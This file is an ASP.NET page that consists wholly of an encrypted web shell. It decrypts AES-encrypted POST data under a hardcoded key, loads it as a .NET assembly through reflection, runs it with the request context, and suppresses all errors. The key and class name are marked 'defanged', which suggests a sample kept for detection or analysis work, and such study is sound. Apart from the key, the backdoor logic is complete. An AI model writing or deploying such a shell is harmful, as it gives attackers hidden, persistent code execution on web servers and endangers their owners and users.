<%@ Page Language="C#" EnableSessionState="True" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
  string key = "0000000000000000"; /* defanged */
  string pass = "pass";
  byte[] Dec(byte[] d) { byte[] k = System.Text.Encoding.Default.GetBytes(key);
    return new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(d, 0, d.Length); }
  void Page_Load(object sender, EventArgs e) {
    try {
      byte[] data = Dec(Convert.FromBase64String(Request.Form[pass]));
      if (Session["payload"] == null) { Session["payload"] = (Assembly)typeof(Assembly).GetMethod("Load", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { data }); return; }
      object o = ((Assembly)Session["payload"]).CreateInstance("ExhuntDefanged");
      o.Equals(Context); o.Equals(data); Response.Write(o.ToString());
    } catch { }
  }
</script>
